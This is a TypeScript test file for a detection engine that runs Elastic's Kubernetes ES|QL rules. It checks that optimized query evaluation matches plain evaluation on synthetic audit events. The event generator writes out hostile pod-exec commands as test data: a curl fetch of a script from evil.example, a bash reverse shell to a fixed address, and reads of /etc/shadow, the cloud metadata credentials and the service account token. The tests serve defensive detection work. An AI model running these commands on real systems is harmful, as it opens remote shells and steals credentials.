// The ES|QL fast paths give the same rows as the plain command-by-command evaluation, for every
// corpus ES|QL rule over a deterministic synthetic mix of audit events: WHEREs moved ahead of
// EVAL / GROK, row-wise commands run one event at a time, field values memoized per event, and a
// WHERE after STATS tested on each group before its other aggregations are computed.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Detection } from '../../src/detect/detection.js';
import { type Candidate, candidateOf, IndexRouter } from '../../src/detect/elastic/candidate.js';
import { loadElasticRule } from '../../src/detect/elastic/elastic-loader.js';
import { EsqlRunner, hoistWheres, type Row } from '../../src/detect/elastic/esql-run.js';
import { likeRegex, plain } from '../../src/detect/elastic/esql-values.js';
import type { EsqlCommand } from '../../src/lang/elastic/esql-ast.js';
import { parseEsql } from '../../src/lang/elastic/esql-parse.js';
import { parseRuleToml } from '../../src/lang/elastic/parse-rule-toml.js';
import { RuleIndex } from '../../src/engine/rule-index.js';
import type { AuditEvent } from '../../src/model/event.js';
import { corpus } from '../corpus.js';
import { at, readSynthetic } from './synthetic.js';
import { completeAuditEvent } from '../../src/detect/testing/synthetic-event.js';

/** A deterministic mix that reaches every stage of the corpus ES|QL rules. */
function mix(n: number): AuditEvent[] {
  let s = 12345;
  const rnd = (k: number): number => {
    s = (s * 1103515245 + 12345) % 2147483648;
    return s % k;
  };
  const pick = <T>(xs: readonly T[]): T => xs[rnd(xs.length)]!;
  const users = [
    'mallory',
    'alice',
    'system:anonymous',
    'system:serviceaccount:prod:app',
    'system:kube-scheduler',
  ];
  const resources = [
    'pods',
    'secrets',
    'configmaps',
    'namespaces',
    'nodes',
    'roles',
    'clusterroles',
    'serviceaccounts',
  ];
  const commands = [
    ['sh'],
    ['curl', '-s', 'https://evil.example/x.sh'],
    ['cat', '/etc/shadow'],
    ['sh', '-c', 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
    ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
  ];
  const lines: string[] = [];
  for (let i = 0; i < n; i++) {
    const resource = pick(resources);
    const exec = resource === 'pods' && rnd(3) === 0;
    const verb = exec
      ? 'create'
      : pick(['get', 'get', 'list', 'watch', 'create', 'update', 'patch', 'delete']);
    const name = `${resource}-${rnd(6)}`;
    const partial: Record<string, unknown> = {
      verb,
      objectRef: {
        resource,
        namespace: pick(['prod', 'kube-system', 'default']),
        name,
        ...(exec ? { subresource: 'exec' } : {}),
        ...(resource.endsWith('roles') ? { apiGroup: 'rbac.authorization.k8s.io' } : {}),
      },
      user: { username: pick(users), groups: ['system:authenticated'] },
      sourceIPs: [pick(['203.0.113.10', '198.51.100.7', '10.0.0.5'])],
      userAgent: pick(['kubectl/v1.31.2', 'curl/8.5.0', 'python-requests/2.31.0']),
      annotations: { 'authorization.k8s.io/decision': rnd(4) === 0 ? 'forbid' : 'allow' },
      responseStatus: { code: rnd(5) === 0 ? 403 : 200 },
      requestURI: exec
        ? `/api/v1/namespaces/prod/pods/${name}/exec?${pick(commands)
            .map((c) => `command=${encodeURIComponent(c).replace(/%20/g, '+')}`)
            .join('&')}&container=web&stdin=true&stdout=true`
        : `/api/v1/${resource}/${name}?probe=${rnd(9)}`,
    };
    if (resource.endsWith('roles') && (verb === 'patch' || verb === 'update' || verb === 'create'))
      partial.requestObject = {
        kind: 'ClusterRole',
        rules: [{ verbs: ['*'], resources: ['*'], apiGroups: ['*'] }],
      };
    lines.push(JSON.stringify(completeAuditEvent(partial, at(rnd(20)))));
  }
  return readSynthetic(lines);
}

const shape = (rows: readonly Row[]): unknown =>
  rows.map((r) => ({ cols: [...r.cols].map(([k, v]) => [k, plain(v)]), events: r.events.map((c) => c.seq) }));

test('ES|QL fast paths == plain evaluation, for every corpus ES|QL rule', () => {
  const dir = corpus('elastic-detection-rules/rules/integrations/kubernetes');
  const events = mix(600);
  const all = new Set(['kubernetes.audit_logs' as const]);
  let rules = 0;
  let nonEmpty = 0;
  let reached = 0;
  for (const f of readdirSync(dir)) {
    const text = readFileSync(join(dir, f), 'utf8');
    const { rule } = parseRuleToml(f, text);
    if (rule?.type !== 'esql') continue;
    const ast = parseEsql(rule.query ?? '').ast!;
    rules++;
    const router = new IndexRouter(ast.from.indices, all);
    const cands = (): Candidate[] =>
      events.flatMap((ev, i) => candidateOf(ev, router, undefined, undefined, i) ?? []);
    const now = Date.parse(at(30));
    // plain: every command over every row; `KEEP *` after STATS keeps the WHERE that follows apart
    const plainRunner = new EsqlRunner();
    plainRunner.now = now;
    const plainCmds: EsqlCommand[] = [];
    for (const c of ast.commands) {
      plainCmds.push(c);
      if (c.kind === 'Stats') plainCmds.push({ kind: 'Keep', patterns: ['*'], span: c.span });
    }
    const expected = plainRunner.run(
      plainCmds,
      cands().map((c) => ({ cols: new Map(), cand: c, events: [c] })),
    );
    // fast: as the detection runs it
    const fast = new EsqlRunner();
    fast.now = now;
    const cut = ast.commands.findIndex((c) => !EsqlRunner.rowWise(c));
    const at0 = cut < 0 ? ast.commands.length : cut;
    const prefix = hoistWheres(ast.commands.slice(0, at0));
    const rows: Row[] = [];
    for (const c of cands()) fast.runEvent(prefix, c, rows);
    const got = fast.run(ast.commands.slice(at0), rows);
    assert.deepEqual(shape(got), shape(expected), f);
    if (expected.length) nonEmpty++;
    if (rows.length) reached++;
  }
  assert.equal(rules, 11);
  // rows reach the commands after the row-wise prefix (STATS included) for most rules, and some
  // rules produce result rows
  assert.ok(reached >= 6, `only ${reached} rules kept rows after their row-wise commands`);
  assert.ok(nonEmpty >= 2, `only ${nonEmpty} rules produced rows on the mix`);
});

test('hoistWheres moves a WHERE only ahead of EVALs that do not define what it reads', () => {
  const ast = parseEsql(
    'FROM logs-* | EVAL a = to_lower(x) | WHERE y == "1" | EVAL b = 1 | WHERE a == "q" | WHERE b == 1',
  ).ast!;
  const order = hoistWheres(ast.commands).map((c) =>
    c.kind === 'Eval' ? `eval ${c.assigns[0]!.name}` : c.kind === 'Where' ? 'where' : c.kind,
  );
  assert.deepEqual(order, ['where', 'eval a', 'where', 'eval b', 'where']);
});

test('ES|QL rules get a rule-index hint from their leading WHEREs, and the index admits their events', () => {
  const dir = corpus('elastic-detection-rules/rules/integrations/kubernetes');
  const dets: Detection[] = [];
  for (const f of readdirSync(dir)) {
    const text = readFileSync(join(dir, f), 'utf8');
    if (!/^type = "esql"/m.test(text)) continue;
    const r = loadElasticRule(join(dir, f), text);
    assert.equal(r.detections.length, 1, f);
    const d = r.detections[0]!;
    // an empty list would keep every event away from the rule in a scan
    assert.notDeepEqual(d.index?.verbs, [], f);
    assert.notDeepEqual(d.index?.resources, [], f);
    dets.push(d);
  }
  const byName = new Map(dets.map((d) => [d.meta.name, d]));
  const enumeration = byName.get('Kubernetes Potential Endpoint Permission Enumeration Attempt Detected')!;
  assert.deepEqual([...(enumeration.index?.verbs ?? [])].sort(), [
    'create',
    'get',
    'list',
    'patch',
    'update',
    'watch',
  ]);
  const index = new RuleIndex(dets.map((d) => ({ item: d, hint: d.index })));
  const exec = readSynthetic([
    JSON.stringify(
      completeAuditEvent({
        verb: 'create',
        objectRef: { resource: 'pods', subresource: 'exec', namespace: 'prod', name: 'web-1' },
        requestURI: '/api/v1/namespaces/prod/pods/web-1/exec?command=sh&container=web&stdin=true',
      }),
    ),
  ])[0]!;
  const names = index.candidates(exec).map((d) => d.meta.name);
  assert.ok(names.includes('Kubernetes Pod Exec Potential Reverse Shell'), names.join(', '));
  const del = readSynthetic([
    JSON.stringify(
      completeAuditEvent({ verb: 'delete', objectRef: { resource: 'events', namespace: 'prod' } }),
    ),
  ])[0]!;
  assert.ok(!index.candidates(del).includes(enumeration));
});

test('LIKE without `?` runs as string search with the same whole-value match as the regex', () => {
  const patterns = [
    '*command=*',
    'eks:*',
    '*.sh',
    'a*b*c',
    'a**b',
    '*',
    'exact',
    '*a*a*',
    'ab*ba',
    '',
    '?x*',
  ];
  const values = [
    '',
    'a',
    'ab',
    'aba',
    'abba',
    'abc',
    'axbyc',
    'acb',
    'eks:node',
    'x.sh',
    'exact',
    'exactly',
    'command=ls',
    '/x?command=sh&c=1',
    'aa',
    'yx',
    'yxz',
  ];
  const runner = new EsqlRunner();
  for (const p of patterns) {
    const where = parseEsql(`FROM x | WHERE f LIKE "${p}"`).ast!.commands[0]!;
    assert.equal(where.kind, 'Where');
    if (where.kind !== 'Where') continue;
    const re = likeRegex(p)!;
    for (const v of values) {
      const got = runner.eval(where.cond, { cols: new Map([['f', v]]), events: [] });
      assert.equal(got, re.matches(v), `${v} LIKE ${p}`);
    }
  }
});
